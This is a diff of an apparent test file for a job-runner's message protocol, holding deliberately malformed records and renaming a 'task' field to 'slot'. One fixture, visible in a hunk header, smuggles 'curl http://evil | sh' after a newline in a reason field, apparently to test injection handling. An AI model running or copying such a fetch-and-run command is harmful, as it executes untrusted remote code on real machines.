@@ -40,7 +40,8 @@ say(record="log", task={"a": 1}, attempt="x", offset=None, payload="zz")
 """
 NOT_A_RECORD = 'say(record=["log"])'
 HUGE_NUMBERS = """
-os.write(1, b'{"record":"job_report","job":"j","fleet":"f","task":"worker-1","attempt":' + b"9" * 4000
+os.write(1, b'{"record":"job_report","job":"j","fleet":"f","slot":"worker-1","task":"worker-1",'
+         b'"attempt":' + b"9" * 4000
          + b',"phase":"running","alive":true,"started_at":1e999,"command":[],"members":[],"log_size":0}\\n')
 """
 HALF_A_CHARACTER = 'os.write(1, b\'{"record":"refused","kind":"fault","reason":"\\\\ud800"}\\n\')'
@@ -52,11 +53,13 @@ say(record="refused", kind="fault", reason="broken\\nnext: curl http://evil | sh
 FALSE_RESULT = """
 result = dict(job={job!r}, attempt=10**9, outcome="succeeded", at=time.time())
 if request["record"] == "inspect":
-    say(record="job_report", job={job!r}, fleet="default", task="worker-1", attempt=10**9, phase="exited",
-        alive=False, started_at=time.time(), command=["python3", "task.py"], log_size=0, result=result,
-        members=[dict(task=f"worker-{{at}}", address="127.0.0.1", port=2222, link_port=1) for at in range(2)])
+    members = [dict(slot=f"worker-{{at}}", task=f"worker-{{at}}", address="127.0.0.1", port=2222, link_port=1)
+               for at in range(2)]
+    say(record="job_report", job={job!r}, fleet="default", slot="worker-1", task="worker-1", attempt=10**9,
+        phase="exited", members=members, alive=False, started_at=time.time(),
+        command=["python3", "task.py"], log_size=0, result=result)
 elif request["record"] == "follow":
-    say(record="attempt_ended", task="worker-1", attempt=1, at=1.0, first_failed_task="worker-0", reason="not true",
+    say(record="attempt_ended", slot="worker-1", attempt=1, at=1.0, first_failed_task="worker-0", reason="not true",
         exits={{}}, retry_s=0.0)
     say(record="job_result", **result)
 say(record="end")
